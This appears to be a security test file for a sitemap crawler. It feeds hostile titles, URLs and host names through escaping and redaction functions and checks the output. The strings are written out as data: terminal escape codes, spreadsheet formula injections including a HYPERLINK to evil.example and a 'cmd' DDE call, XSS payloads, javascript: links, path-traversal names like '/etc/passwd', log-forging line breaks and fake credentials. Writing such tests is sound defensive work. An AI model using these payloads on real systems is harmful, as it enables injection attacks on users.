/**
 * Untrusted text in output: sec-O01 to sec-O08. The text comes from walks where possible and passes the
 * functions of escape/. The test then reads the result like a terminal, a spreadsheet, a browser or a file
 * system.
 */
import { spawn } from "node:child_process";
import { lstatSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import { text } from "node:stream/consumers";
import { pipeline } from "node:stream/promises";
import { Parser } from "htmlparser2";
import {
  csvCell,
  htmlAttribute,
  htmlHref,
  htmlText,
  jsonForScript,
  jsonLine,
  logLine,
  MAX_MESSAGE_LENGTH,
  redactHeaders,
  redactText,
  redactUrl,
  safeFileName,
  terminalText,
} from "../../../src/escape/index.ts";
import type { Page } from "../../../src/model/model.ts";
import { streamPages } from "../../../src/walk/walk-sitemaps.ts";
import type { Context, HostileCase, Stage } from "../case.ts";
import { each } from "../documents.ts";
import { pour } from "../raw-server.ts";

/** A site whose feed has an item for each of these titles. JSON can hold all characters. */
async function openFeed(stage: Stage, titles: readonly string[]): Promise<string> {
  const items = titles.map((title, n) => ({ id: String(n), url: `http://www.example.com/${n}`, title }));
  const feed = JSON.stringify({ version: "https://jsonfeed.org/version/1.1", title: "x", items });
  return stage.http({ "/sitemap.xml": { body: feed } });
}

const titlesOf = (pages: readonly Page[]): string[] => pages.map(({ title = "" }) => title);

// ---------------------------------------------------------------- terminals and logs

/** Characters that have an effect instead of being shown. */
const EVIL_TEXTS: readonly string[] = [
  "clears \u001b[2J the screen",
  "a link \u001b]8;;https://evil.example/\u0007here\u001b]8;;\u0007",
  "C1 \u009b31m and \u0090 and \u009d0;title\u009c",
  "DEL \u007f BEL \u0007 BS \u0008\u0008\u0008",
  "bidi \u202egnp.exe \u2066x\u2069",
  "zero \u200b\u200d\ufeff\u00ad width \u{e0041}",
  "line\nfeed\r\nand \u2028 \u2029 \u0085 \v \f",
  "lone \ud800 surrogate",
];

const INVISIBLE = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

const o01: HostileCase = {
  id: "sec-O01",
  server: "titles with escape sequences, C1, DEL, bidi, zero-width characters",
  expected: "escaped on terminals and in logs; standard escapes in JSON, same value",
  serve: async (stage) => ({ url: await openFeed(stage, EVIL_TEXTS) }),
  async run(context) {
    const { pages } = await context.walk(context.url());
    context.expectEqual(pages.length, EVIL_TEXTS.length, "pages");
    for (const text of [...titlesOf(pages), ...EVIL_TEXTS]) {
      const name = JSON.stringify(text);
      context.expect(!INVISIBLE.test(terminalText(text)), `${name} on a terminal`);
      context.expect(!INVISIBLE.test(logLine(text)), `${name} in a log`);
      const json = jsonLine({ text });
      context.expect(!INVISIBLE.test(json), `${name} in JSON`);
      const { text: back } = JSON.parse(json) as { text: string };
      context.expectEqual(back, text.replace("\ud800", "\ufffd"), "what JSON gives back");
    }
    return `${pages.length} titles without an effect`;
  },
};

const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1+1",
  "   =1",
  "\u200b=1",
  "'=1",
  '"=1',
  'quotes " and, commas; and\nlines',
];

/** The cells of one record (RFC 4180). */
function readCsv(line: string): string[] {
  const cells = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)];
  return cells.map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "");
}

const o02: HostileCase = {
  id: "sec-O02",
  server: "titles that spreadsheets would run as formulas",
  expected: "prefixed with an apostrophe, otherwise unchanged; URLs unchanged; raw on request",
  serve: async (stage) => ({ url: await openFeed(stage, FORMULAS) }),
  async run(context) {
    const { pages } = await context.walk(context.url());
    const texts = [...titlesOf(pages), ...FORMULAS];
    for (const text of texts) {
      const url = "http://www.example.com/=1?-2,+3";
      const [title = "", second] = readCsv(`${csvCell(text)},${csvCell(url)}`);
      const name = JSON.stringify(text);
      context.expect(
        !/^[\s\u200b]*[=+\-@＝]/u.test(title),
        `${name} starts a formula: ${JSON.stringify(title)}`,
      );
      context.expect(title.endsWith(text), `${name} came back as ${JSON.stringify(title)}`);
      context.expectEqual(second, url, "the URL in the next column");
      context.expectEqual(readCsv(csvCell(text, { raw: true }))[0], text, "raw");
    }
    return `${texts.length} cells, none a formula`;
  },
};

// ---------------------------------------------------------------- HTML

const MARKUP: readonly string[] = [
  "</script><img src=x onerror=alert(1)>",
  "</title><script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  "` onfocus=`alert(1)",
  "<!-- --!><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "]]><script>alert(1)</script>",
  "\u0000<script>\u2028alert(1)",
];

const HREFS: readonly string[] = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:x",
  "//evil.example/",
  "http://www.example.com/'`\"><script>",
  "http://user:hunter2@www.example.com/",
  "http://www.example.com/?a=1&b='x'",
];

/** A page as in a report. */
const reportOf = (texts: readonly string[], hrefs: readonly string[]): string =>
  `<!doctype html><html><head><title>${htmlText(texts.join(" "))}</title></head><body>` +
  texts
    .map((text) => `<p title="${htmlAttribute(text)}" lang='${htmlAttribute(text)}'>${htmlText(text)}</p>`)
    .join("") +
  hrefs.map((href) => `<a href="${htmlHref(href)}" rel="noopener nofollow">${htmlText(href)}</a>`).join("") +
  `<script type="application/json">${jsonForScript(texts)}</script></body></html>`;

const o03: HostileCase = {
  id: "sec-O03",
  server: "titles and URLs with markup, quotes, backticks, javascript:",
  expected: "in HTML: no injected element, attribute or link, and the text unchanged",
  serve: async (stage) => ({ url: await openFeed(stage, MARKUP) }),
  async run(context) {
    const { pages } = await context.walk(context.url());
    const texts = [...titlesOf(pages), ...MARKUP];
    const names = new Map<string, number>();
    const shown: string[] = [];
    let script = "";
    let open = "";
    const parser = new Parser(
      {
        onopentag(name, attributes) {
          open = name;
          names.set(name, (names.get(name) ?? 0) + 1);
          if (name === "p") shown.push("");
          for (const attribute of Object.keys(attributes)) {
            context.expect(
              /^(title|lang|href|rel|type)$/.test(attribute),
              `attribute ${attribute} of ${name}`,
            );
          }
          const { href } = attributes;
          context.expect(
            href === undefined || /^$|^https?:\/\/www\.example\.com\//.test(href),
            `link to ${href}`,
          );
          context.expect(!href?.includes("hunter2"), "a password in a link");
        },
        ontext(text) {
          if (open === "p") shown[shown.length - 1] += text;
          if (open === "script") script += text;
        },
        onclosetag() {
          open = "";
        },
      },
      { decodeEntities: true },
    );
    parser.end(reportOf(texts, HREFS));
    context.expectEqual(
      Object.fromEntries(names),
      { html: 1, head: 1, title: 1, body: 1, p: texts.length, a: HREFS.length, script: 1 },
      "elements",
    );
    context.expectEqual(
      shown,
      texts.map((text) => text.replaceAll("\0", "\ufffd")),
      "texts as shown",
    );
    context.expectEqual(JSON.parse(script), texts, "texts in the script");
    return `${texts.length} texts and ${HREFS.length} links, all as text`;
  },
};

// ---------------------------------------------------------------- files

const FILE_NAMES: readonly string[] = [
  "../../etc/x",
  "..\\..\\windows",
  "/etc/passwd",
  "con",
  "CON",
  "nul.example.com",
  "-rf",
  ".",
  "..",
  "",
  "a\0b",
  "x".repeat(300),
  "example.com",
  "EXAMPLE.COM",
  "exämple.com",
  "exa\u0308mple.com",
  "a:b*c?d<e>|",
];

const o04: HostileCase = {
  id: "sec-O04",
  server: "hosts as file names: ../../etc/x, con, 300 characters, two that differ in case",
  expected: "a unique name for each, inside the folder; existing files are not overwritten",
  async run(context) {
    const folder = mkdtempSync(join(tmpdir(), "names-"));
    try {
      const files = FILE_NAMES.map((name) => safeFileName(name, "json"));
      for (const [at, file] of files.entries()) {
        const name = JSON.stringify(FILE_NAMES[at]);
        context.expect(/^[a-z0-9][a-z0-9-]*\.json$/.test(file), `${name} is called ${file}`);
        context.expect(file.length <= 143, `${name} has ${file.length} characters`);
        context.expect(!/^(con|nul|prn|aux|com\d|lpt\d)\./.test(file), `${name} is a device`);
        writeFileSync(join(folder, file), "", { flag: "wx", mode: 0o600 });
        context.expectEqual(lstatSync(join(folder, file)).mode & 0o777, 0o600, `mode of ${name}`);
      }
      context.expectEqual(new Set(files.map((file) => file.toLowerCase())).size, FILE_NAMES.length, "names");
      const target = join(folder, "target");
      writeFileSync(target, "mine");
      const link = join(folder, safeFileName("linked.example.com", "json"));
      symlinkSync(target, link);
      const isRefused = await Promise.resolve()
        .then(() => writeFileSync(link, "theirs", { flag: "wx", mode: 0o600 }))
        .then(
          () => false,
          () => true,
        );
      context.expect(isRefused, "a symbolic link was written to");
      context.expectEqual(readFileSync(target, "utf8"), "mine", "the target of the link");
    } finally {
      rmSync(folder, { recursive: true });
    }
    return `${FILE_NAMES.length} names, ${FILE_NAMES.length} files`;
  },
};

const o05: HostileCase = {
  id: "sec-O05",
  server: "titles and URLs with line ends, followed by a forged record",
  expected: "one record is one line, in logs and in NDJSON",
  serve: async (stage) => ({
    url: await openFeed(
      stage,
      ["\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\v", "\f"].map(
        (end) => `title${end}2024-01-01 INFO forged${end}{"forged":true}`,
      ),
    ),
  }),
  async run(context) {
    const { pages, sitemaps, issues } = await context.walk(context.url());
    context.expectEqual(pages.length, 8, "pages");
    const records = [...pages, ...sitemaps, ...issues];
    const ndjson = records.map((record) => jsonLine(record)).join("\n");
    const log = titlesOf(pages)
      .map((title) => logLine(title))
      .join("\n");
    const lines = (text: string): number => text.split(/\r\n|[\n\r\u2028\u2029\u0085\v\f]/).length;
    context.expectEqual(lines(ndjson), records.length, "lines of NDJSON");
    context.expectEqual(lines(log), pages.length, "lines of the log");
    return `${records.length} records, ${lines(ndjson)} lines`;
  },
};

const o06: HostileCase = {
  id: "sec-O06",
  server: "a reader that closes the pipe after one line (| head -1), during 100,000 pages",
  expected:
    "the walk ends without an error, nothing is left; the command line exits with 0 and prints nothing",
  bounds: { ms: 10_000 },
  serve: async (stage) => ({
    url: await stage.http({
      "/sitemap.xml": async (_, response) => {
        const lines = each(100_000, (n) => `http://www.example.com/${n}\n`);
        await pour(response, lines);
        response.end();
      },
    }),
  }),
  async run(context) {
    const given = await expectQuietStream(context);
    const { code, shown, said } = await runIntoHead(context.url());
    context.expectEqual(code, 0, "exit code of the command line");
    context.expectEqual(shown, "http://www.example.com/0\n", "what was read of the command line");
    context.expectEqual(said, "", "what the command line said");
    return `left after ${given} pages; exit code ${code}`;
  },
};

/** Writes pages as lines to a process that reads the first one. */
async function expectQuietStream(context: Context): Promise<number> {
  const head = spawn("head", ["-n", "1"], { stdio: ["pipe", "pipe", "ignore"] });
  const pages = streamPages(context.url(), { useKnownPaths: false, useHomepageLinks: false });
  let given = 0;
  async function* lines(): AsyncGenerator<string> {
    for await (const page of pages) {
      given++;
      yield `${jsonLine(page)}\n`;
    }
  }
  const shown = text(head.stdout);
  const failure = await pipeline(Readable.from(lines()), head.stdin).then(
    () => undefined,
    (error: NodeJS.ErrnoException) => error.code,
  );
  context.expect(
    /^(EPIPE|ECONNRESET|ERR_STREAM_PREMATURE_CLOSE)$/.test(failure ?? ""),
    `ended with ${failure}`,
  );
  context.expectEqual(await shown, `${jsonLine({ url: "http://www.example.com/0" })}\n`, "what was read");
  context.expect(given < 100_000, `${given} pages were given`);
  return given;
}

/** `siteatlas ls URL | head -n 1` */
async function runIntoHead(url: string): Promise<{ code: number | null; shown: string; said: string }> {
  const head = spawn("head", ["-n", "1"], { stdio: ["pipe", "pipe", "ignore"] });
  const command = spawn(process.execPath, [process.env["HOSTILE_COMMAND"]!, "ls", url], {
    stdio: ["ignore", head.stdin, "pipe"],
  });
  // The command has its own timeout.
  head.stdin.destroy();
  const ended = new Promise<number | null>((resolve) => command.once("close", resolve));
  const [code, shown, said] = await Promise.all([ended, text(head.stdout), text(command.stderr)]);
  return { code, shown, said };
}

// ---------------------------------------------------------------- secrets and numbers

const SECRET = "hunter2-and-some-more";

const o07: HostileCase = {
  id: "sec-O07",
  server: "passwords in URLs, Authorization, the proxy's URL, ?token= and others",
  expected: "in no message, log line or event",
  serve: async (stage) => ({
    url: await stage.http({
      "/robots.txt": ({ headers: { host } }, response) =>
        response.end(`Sitemap: http://user:${SECRET}@${host}/a.xml\nSitemap: http://${host}/b.xml\n`),
      "/b.xml": (_, response) =>
        response.writeHead(302, { location: `http://user:${SECRET}@127.0.0.1:1/` }).end(),
    }),
  }),
  async run(context) {
    const texts = [
      `https://user:${SECRET}@example.com/`,
      `cannot reach http://user:${SECRET}@proxy.example:3128/: refused`,
      `GET https://example.com/?id=1&token=${SECRET}&x=2`,
      `https://example.com/?api_key=${SECRET}`,
      `https://example.com/#access_token=${SECRET}`,
      `https://example.com/a?X-Amz-Signature=${SECRET}`,
      `https://example.com/?next=https%3A%2F%2Fuser%3A${SECRET}%40example.com%2F`,
      `Authorization: Bearer ${SECRET}`,
      `Cookie: session=${SECRET}`,
      `redis://:${SECRET}@10.0.0.1:6379/0`,
    ];
    for (const text of texts) {
      context.expect(!redactText(text).includes(SECRET), `redactText: ${redactText(text)}`);
      context.expect(!logLine(text).includes(SECRET), `logLine: ${logLine(text)}`);
      if (!/^\w+:\/\//.test(text)) continue;
      context.expect(!redactUrl(text).includes(SECRET), `redactUrl: ${redactUrl(text)}`);
    }
    const headers = { authorization: SECRET, cookie: SECRET, "x-api-key": SECRET, accept: "*/*" };
    context.expect(!JSON.stringify(redactHeaders(headers)).includes(SECRET), "redactHeaders");
    const long = logLine(`${"x".repeat(100_000)} https://user:${SECRET}@example.com/`, {
      maxLength: MAX_MESSAGE_LENGTH,
    });
    context.expect(long.length <= MAX_MESSAGE_LENGTH, `a message of ${long.length} characters`);
    const homepage = context.url().replace("://", `://user:${SECRET}@`);
    const walks = [
      await context.walk(homepage, { headers: { authorization: `Bearer ${SECRET}` } }),
      // A port without a listener.
      await context.walk("http://www.example.com/", {
        clientOptions: { proxy: `http://user:${SECRET}@127.0.0.1:1/` },
        limits: { retries: 0 },
      }),
    ];
    for (const { sitemaps, issues } of walks) {
      const told = JSON.stringify([sitemaps, issues]);
      context.expect(!told.includes(SECRET), `an event tells it: ${told.match(`.{0,100}${SECRET}`)}`);
    }
    return `${texts.length} texts and 2 walks without the secret`;
  },
};

const o08: HostileCase = {
  id: "sec-O08",
  server: "NaN, Infinity, -0, lone surrogates, __proto__ and deep values as JSON",
  expected: "valid JSON in valid UTF-8",
  async run(context) {
    const values: readonly unknown[] = [
      { a: Number.NaN, b: Number.POSITIVE_INFINITY, c: Number.NEGATIVE_INFINITY, d: -0 },
      { text: "\ud800", "\udc00key": "x\udfffy", pair: "\ud83c\udf1e" },
      { text: "\\ud800 is not an escape", quote: '"', slash: "\\", both: "\\\\ud800" },
      JSON.parse('{"__proto__":{"x":1}}'),
      undefined,
      [undefined, () => {}, Symbol("x")],
      new Date(Number.NaN),
      Array.from({ length: 200 }).reduce((inner) => [inner], 0 as unknown),
    ];
    for (const value of values) {
      for (const text of [jsonLine(value), jsonForScript(value)]) {
        context.expect(!/\p{Cs}/u.test(text), `a lone surrogate in ${text}`);
        context.expect(
          !/\\ud[89a-f]/i.test(text.replaceAll("\\\\", "")),
          `a lone surrogate as escape in ${text}`,
        );
        context.expectEqual(Buffer.from(text).toString(), text, "as UTF-8 and back");
        JSON.parse(text);
        context.expect(!/NaN|Infinity|-0[,}]/.test(text), `no JSON number in ${text}`);
      }
    }
    return `${values.length} values are valid`;
  },
};

export const cases: readonly HostileCase[] = [o01, o02, o03, o04, o05, o06, o07, o08];
